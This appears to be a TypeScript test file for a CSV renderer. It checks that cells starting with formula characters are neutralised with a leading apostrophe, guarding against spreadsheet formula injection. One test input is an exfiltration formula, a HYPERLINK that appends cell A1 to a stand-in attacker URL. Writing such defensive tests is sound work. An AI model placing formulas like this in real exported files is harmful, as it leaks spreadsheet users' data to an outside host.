import { describe, expect, it } from 'vitest';
import { cleanLine } from '../../src/render/clean.ts';
import { renderCsv } from '../../src/render/csv.ts';
import fc from '../property.ts';
import { nastyText } from './arbitrary-document.ts';
import { UNSAFE } from './unsafe.ts';

/** RFC 4180, read strictly: every cell in quotes, commas between, CR LF at the end. */
function readCsv(csv: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  let rest = csv;
  let row: string[] = [];
  while (rest !== '') {
    const [whole, cell = '', end] = /^"((?:[^"]|"")*)"(,|\r\n)/.exec(rest) ?? [];
    if (whole === undefined) throw new Error(`no cell: ${JSON.stringify(rest)}`);
    row.push(cell.replaceAll('""', '"'));
    rest = rest.slice(whole.length);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe('cells of a spreadsheet', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'=1"],
    ['\r=1', "'=1"],
    ['\n\n  =1', "'=1"],
    ['\u200B=1', "'=1"],
    ['＝1+1', "'＝1+1"],
    ['a\tb\rc', 'a b c'],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', '\'=HYPERLINK("https://evil.example?"&A1,"x")'],
    ['a=b, c', 'a=b, c'],
    ['"x"', '"x"'],
  ])('%j is written as %j', (text, expected) => {
    expect(readCsv(renderCsv([[text]]))).toEqual([[expected]]);
  });

  it('whatever they hold, are read back as they are, and none begins a formula', () => {
    const rows = fc.array(fc.array(nastyText, { minLength: 1, maxLength: 4 }), { maxLength: 4 });
    fc.assert(
      fc.property(rows, (texts) => {
        const csv = renderCsv(texts);
        expect(csv.replaceAll('\r\n', '')).not.toMatch(UNSAFE);
        const read = readCsv(csv);
        expect(
          read.map((row) => row.map((cell) => cell.replace(/^'(?=[=+\-@＝＋－＠])/, ''))),
        ).toEqual(
          texts.map((row) =>
            row.map((text) => cleanLine(text).replace(/^'(?=[=+\-@＝＋－＠])/, '')),
          ),
        );
        for (const cell of read.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\t\r＝＋－＠]/);
      }),
    );
  });
});
